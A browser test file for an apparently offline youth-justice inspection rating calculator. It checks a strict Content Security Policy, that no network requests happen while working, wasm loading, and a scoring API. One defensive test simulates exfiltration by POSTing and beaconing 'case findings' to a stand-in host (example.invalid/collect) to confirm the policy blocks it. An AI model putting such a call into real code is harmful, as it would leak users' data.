// Case findings never leave the browser: a strict CSP, no inline script, no request at all
// while working, and the engine exposed for scripting as window.yjRating.score.
import { describe, test } from "node:test";
import assert from "node:assert/strict";
import { useBrowser, waitForApp, TORBAY, expectText } from "./lib/harness.mjs";

/** The CSP meta of an HTML page, as { directive: [values] }. */
function cspOf(html) {
  const metas = [...html.matchAll(/<meta\b[^>]*>/gi)].map((m) => m[0]);
  const csp = metas.filter((m) => /http-equiv\s*=\s*"Content-Security-Policy"/i.test(m));
  assert.equal(csp.length, 1, "exactly one CSP meta");
  const content = csp[0].match(/content\s*=\s*"([^"]*)"/i)[1];
  return Object.fromEntries(
    content
      .split(";")
      .map((d) => d.trim().split(/\s+/))
      .filter((d) => d[0])
      .map(([name, ...values]) => [name.toLowerCase(), values]),
  );
}

/** A short working session: typing, arrow keys, buttons, discretion, scenarios. */
async function workAway(page, calc) {
  await calc.type(calc.casesInput("2.1"), "6");
  for (const kq of ["desistance", "safety", "others"]) {
    await calc.type(calc.countInput("2.1", kq, "relevant"), "6");
    await calc.type(calc.countInput("2.1", kq, "yes"), "4");
  }
  await calc.judgement("1.1").selectOption({ label: "Good" });
  await calc.countInput("2.1", "others", "yes").focus();
  await page.keyboard.press("ArrowUp");
  await calc.type(calc.countInput("2.2", "safety", "yes"), "x");
  await calc.errorSummary.locator("a").first().click();
  await calc.rename("Working copy");
  await calc.loadExample();
  await calc.discretionRadio("3.4", 1).check();
  await calc.type(calc.discretionReason("3.4"), "Reason given");
  await expectText(calc.overallScore, "17/36");
  await calc.byTestId("rounding").check();
  await calc.button("duplicate").click();
  await calc.button("new-blank").click();
  await calc.switchTo("Working copy");
  await calc.button("delete").click();
  await calc.button("undo-delete").click();
  await calc.button("presentation").click();
  await calc.button("leave-presentation").click();
  await page.locator(".questions summary").first().click();
  await page.waitForTimeout(300);
}

describe("privacy and security", () => {
  const env = useBrowser();

  test("the served page has a strict CSP and no inline script", { timeout: 30_000 }, async () => {
    const response = await fetch(env.url);
    assert.equal(response.status, 200);
    const html = await response.text();
    const csp = cspOf(html);
    // The page's own origin only: the wasm streams from it (and the app sends nothing).
    assert.deepEqual(csp["connect-src"], ["'self'"]);
    assert.ok(csp["script-src"], "a script-src directive");
    assert.ok(!csp["script-src"].includes("'unsafe-inline'"), `script-src without 'unsafe-inline': ${csp["script-src"]}`);
    assert.ok(!csp["script-src"].includes("'unsafe-eval'"), `script-src without 'unsafe-eval': ${csp["script-src"]}`);
    assert.ok(!csp["script-src"].some((v) => /^(https?:|\*|data:)/.test(v)), "scripts only from the page's own origin");
    assert.deepEqual(csp["default-src"], ["'self'"]);
    assert.deepEqual(csp["object-src"], ["'none'"]);
    assert.deepEqual(csp["base-uri"], ["'none'"]);

    const scripts = [...html.matchAll(/<script\b([^>]*)>([\s\S]*?)<\/script>/gi)];
    assert.ok(scripts.length > 0, "the page loads a script");
    for (const [tag, attrs, body] of scripts) {
      assert.match(attrs, /\bsrc\s*=/, `no inline script: ${tag.slice(0, 80)}`);
      assert.equal(body.trim(), "", "a script with src has no body");
      assert.match(attrs, /\bintegrity\s*=\s*"sha384-/, "scripts carry subresource integrity");
    }
    assert.doesNotMatch(html, /\son[a-z]+\s*=/i, "no inline event handlers");
    assert.doesNotMatch(html, /javascript:/i, "no javascript: URLs");
    // Every asset is addressed relatively, so the page works under any sub-path (the
    // pre-rendered first screen's links go to places in the page).
    for (const [, url] of html.matchAll(/\b(?:src|href)\s*=\s*"([^"]*)"/gi)) {
      assert.ok(url.startsWith("./") || url.startsWith("data:") || /^#[\w-]+$/.test(url), `relative asset URL: ${url}`);
    }
  });

  test("no request at all while working, and every request goes to the local server", { timeout: 90_000 }, async (t) => {
    const { session, page, calc } = await env.open(t);
    // Let the service worker install (its precache is the last network use) and take control.
    await page.evaluate(async () => (await navigator.serviceWorker.ready).scope);
    if (!(await page.evaluate(() => navigator.serviceWorker.controller))) {
      await page.reload();
      await waitForApp(page);
    }
    await page.waitForTimeout(300);
    const requestsBefore = session.requests.length;
    const hitsBefore = env.server.hits.length;
    assert.ok(hitsBefore > 0);

    await workAway(page, calc);

    assert.deepEqual(session.requests.slice(requestsBefore).map((r) => `${r.from}: ${r.url}`), [], "no request from the page or its service worker");
    assert.deepEqual(env.server.hits.slice(hitsBefore).map((h) => h.url), [], "nothing reached the server");
    // Everything ever requested came from the local server, under the sub-path.
    assert.deepEqual(session.foreignRequests(), []);
    for (const hit of env.server.hits) assert.ok(hit.url.startsWith("/inspection/calculator/"), `under the sub-path: ${hit.url}`);
    // The session's work is saved locally all the same.
    assert.match((await calc.storage())["yj-rating.library"], /Working copy/);
  });

  test("fetch() to another origin is refused by the CSP", { timeout: 30_000 }, async (t) => {
    const { session, page } = await env.open(t);
    session.allowConsole(/Content Security Policy|Refused to connect|Failed to fetch/);
    const outcome = await page.evaluate(async () => {
      const violations = [];
      document.addEventListener("securitypolicyviolation", (e) => violations.push(e.violatedDirective));
      const remote = await fetch("https://example.invalid/collect", { method: "POST", body: "case findings" }).then(
        () => "sent",
        (e) => `${e.name}: ${e.message}`,
      );
      // sendBeacon queues without saying; the CSP stops it before it leaves.
      navigator.sendBeacon("https://example.invalid/collect", "case findings");
      await new Promise((r) => setTimeout(r, 300));
      return { remote, violations };
    });
    assert.match(outcome.remote, /^TypeError/, "a cross-origin fetch is refused");
    assert.deepEqual(outcome.violations, ["connect-src", "connect-src"], "each attempt is a connect-src violation");
    assert.deepEqual(session.foreignRequests(), []);
  });

  test("the wasm streams: fetched once, after the first screen is painted, as application/wasm", { timeout: 30_000 }, async (t) => {
    // Without the service worker, whose precache would fetch every file again.
    const { page } = await env.open(t, { context: { serviceWorkers: "block" }, navigate: false });
    const warnings = [];
    page.on("console", (msg) => warnings.push(msg.text()));
    const before = env.server.hits.length;
    await page.goto(env.url);
    await waitForApp(page);
    // Chromium warns of a preload left unused a few seconds after the load.
    await page.waitForTimeout(3500);
    const wasm = env.server.hits.slice(before).filter((h) => h.url.endsWith(".wasm"));
    assert.equal(wasm.length, 1, "one request for the wasm");
    assert.deepEqual(
      warnings.filter((w) => /instantiateStreaming|preload/i.test(w)),
      [],
      "no fallback from streaming, no unused preload",
    );
  });

  test("window.yjRating.score scores a scenario object and throws on an invalid one", { timeout: 30_000 }, async (t) => {
    const { page } = await env.open(t);
    const result = await page.evaluate((scenario) => window.yjRating.score(scenario), TORBAY);
    assert.equal(result.total, 16);
    assert.equal(result.max, 36);
    assert.equal(result.overall, "Requires improvement");
    assert.equal(result.standards["3.4"].rating, "Inadequate");
    assert.equal(result.standards["2.1"].rating, "Outstanding");
    assert.equal(result.standards["1.3"].rating, "Good");
    assert.equal(result.title, "Torbay YOT, March 2021");
    // Each flag's directions, and the ratings discretion may give (rule book 1.3, 1.4).
    assert.deepEqual(result.standards["3.4"].flags.map((f) => [f.kind, f.directions]), [
      ["one-case", ["up"]],
      ["small-sample", ["up", "down"]],
    ]);
    assert.deepEqual(result.standards["3.4"].allowed_discretion, ["Requires improvement"]);
    assert.deepEqual(result.standards["3.2"].flags[0].changes[0].key_questions, ["safety", "others"]);
    assert.deepEqual(result.standards["1.1"].allowed_discretion, []);

    const invalid = structuredClone(TORBAY);
    invalid.standards["3.2"].key_questions.safety.yes = 12;
    const thrown = await page.evaluate((scenario) => {
      try {
        window.yjRating.score(scenario);
        return null;
      } catch (e) {
        return { isError: e instanceof Error, message: e.message };
      }
    }, invalid);
    assert.ok(thrown, "an invalid scenario throws");
    assert.equal(thrown.isError, true, "what is thrown is an Error");
    assert.match(thrown.message, /standards\.3\.2\.key_questions\.safety\.yes: 12 is more than relevant \(2\)/);

    // Discretion in a direction no flag names is refused with its path.
    const againstFlags = structuredClone(TORBAY);
    // 60 of 100 is Too few, below the 65% boundary: its flag points up only.
    againstFlags.standards["2.1"] = {
      cases: 100,
      key_questions: { desistance: { relevant: 100, yes: 60 }, safety: { relevant: 0, yes: 0 }, others: { relevant: 0, yes: 0 } },
      discretion: { rating: "Inadequate", reason: "x" },
    };
    const refused = await page.evaluate((scenario) => {
      try {
        window.yjRating.score(scenario);
        return null;
      } catch (e) {
        return e.message;
      }
    }, againstFlags);
    assert.match(refused ?? "", /standards\.2\.1\.discretion: no flag points down/);

    const notScenario = await page.evaluate(() => {
      try {
        window.yjRating.score({ format: "something else" });
        return null;
      } catch (e) {
        return e instanceof Error ? e.message : String(e);
      }
    });
    assert.match(notScenario ?? "", /format/);
    // The API cannot be replaced by other scripts.
    assert.equal(await page.evaluate(() => Object.isFrozen(window.yjRating)), true);
  });
});
